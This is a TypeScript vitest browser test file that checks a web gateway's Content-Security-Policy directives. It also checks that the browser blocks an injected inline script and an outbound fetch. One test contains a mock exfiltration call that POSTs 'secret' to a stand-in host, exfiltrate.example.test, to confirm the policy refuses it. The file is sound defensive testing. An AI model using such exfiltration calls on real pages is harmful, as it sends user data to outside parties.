import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchBrowser, takeCspViolations, type TestBrowser } from './browser';

const baseUrl = inject('baseUrl');
const platformEnv = inject('platformEnv');
let browser: TestBrowser;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

/** The page's policy as directive name -> sources. */
async function policyAt(path: string): Promise<Record<string, string[]>> {
  const response = await fetch(`${baseUrl}${path}`, { headers: { accept: 'text/html' } });
  expect(response.status).toBe(200);
  const policy = response.headers.get('content-security-policy');
  expect(policy, `Content-Security-Policy of ${path}`).toMatch(/(^|;\s*)default-src 'self'(;|$)/);
  return Object.fromEntries(
    policy!.split(/;\s*/).map((directive) => {
      const [name, ...sources] = directive.trim().split(/\s+/);
      return [name!, sources];
    }),
  );
}

async function openLanding() {
  await browser.page.goto(`${baseUrl}/`);
  await browser.page.getByTestId('landing-page').waitFor();
}

describe("the gateway's Content-Security-Policy", () => {
  it('is on / and on the router paths, strict on script, open to the S3 and tile origins the platform uses', async () => {
    for (const path of ['/', '/dashboard', '/projects/000000000000000000000000?tab=adjoining']) {
      const policy = await policyAt(path);
      expect(policy['script-src'], path).toEqual(["'self'", "'wasm-unsafe-eval'"]);
      expect(policy['object-src'], path).toEqual(["'none'"]);
      expect(policy['frame-ancestors'], path).toEqual(["'none'"]);
      expect(policy['base-uri'], path).toEqual(["'self'"]);
      expect(policy['connect-src'], path).toContain(new URL(platformEnv.S3_ENDPOINT!).origin);
      expect(policy['img-src'], path).toContain(new URL(platformEnv.REGRID_TILES_URL!).origin);
    }
  });

  it('refuses a script injected inline, and the check reports it', async () => {
    await openLanding();
    expect(takeCspViolations(browser)).toEqual([]);

    const ran = await browser.page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injectedScriptRan = true;';
      document.head.append(script);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return (window as unknown as { __injectedScriptRan?: boolean }).__injectedScriptRan === true;
    });

    expect(ran).toBe(false);
    await expect.poll(() => browser.cspViolations.some((line) => line.startsWith('securitypolicyviolation: script-src-elem refused inline'))).toBe(true);
    await expect.poll(() => browser.cspViolations.some((line) => /^console: .*inline script violates .*Content Security Policy/.test(line))).toBe(true);
    // Reported: taken here so that the check after each test sees none.
    takeCspViolations(browser);
    browser.errors.length = 0;
  });

  it('refuses a fetch to an origin it does not name', async () => {
    await openLanding();
    const outcome = await browser.page.evaluate(() =>
      fetch('https://exfiltrate.example.test/collect', { method: 'POST', body: 'secret' }).then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(outcome).toBe('refused');
    await expect
      .poll(() => browser.cspViolations.some((line) => line.startsWith('securitypolicyviolation: connect-src refused https://exfiltrate.example.test')))
      .toBe(true);
    takeCspViolations(browser);
    browser.errors.length = 0;
  });
});
